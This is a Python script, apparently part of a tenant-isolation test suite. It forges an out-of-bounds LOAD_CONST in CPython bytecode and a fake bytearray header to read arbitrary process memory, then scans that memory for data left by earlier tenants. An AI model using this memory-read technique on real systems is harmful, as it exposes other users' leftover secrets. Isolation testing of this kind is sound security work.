# Searches all of its own memory for markers that begin with the two `parts`. It is not a program of the suite: the
# flavour that looks for data of earlier tenants runs it. Its value: the ends of all markers that it found.
import os, re, struct

import opcode

op = opcode.opmap
keep = []


def load(address):
    """The object whose address is stored at `address`, by LOAD_CONST with an index out of bounds."""
    function = lambda: 1
    code = function.__code__.replace(co_consts=(None,))
    items = id(code.co_consts) + 16
    index = ((address - items) // 4) & 0xFFFFFFFF
    text = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        text += [op["EXTENDED_ARG"], (index >> shift) & 255]
    text += [op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0]
    code = code.replace(co_code=bytes(text))
    assert id(code.co_consts) + 16 == items
    function.__code__ = code
    keep.append(function)
    return function()


def memory(size):
    """All of memory as a bytearray, which nothing may write to or free."""
    fake = struct.pack("<IIIIIIII", 1 << 30, id(bytearray), size, size + 1, 16, 16, 0, 0)
    slot = struct.pack("<I", id(fake) + 16) + b"\0\0\0\0"
    keep.extend([fake, slot])
    return load(id(slot) + 16)


# A read buffer is uninitialised memory, and the unused part is returned. Any content there comes from earlier tenants.
grown = 80 << 20
file = os.open("/usr/lib/python3.14/os.py", os.O_RDONLY)
buffer = os.read(file, grown)
assert len(buffer) < 1 << 20
size = id(buffer) + grown - 4096
whole = memory(size)
assert type(whole) is bytearray and len(whole) == size > grown
pattern = b"".join(part.encode() for part in parts) + rb"(\w+)\."
sorted({match.group(1).decode() for match in re.finditer(pattern, whole)})
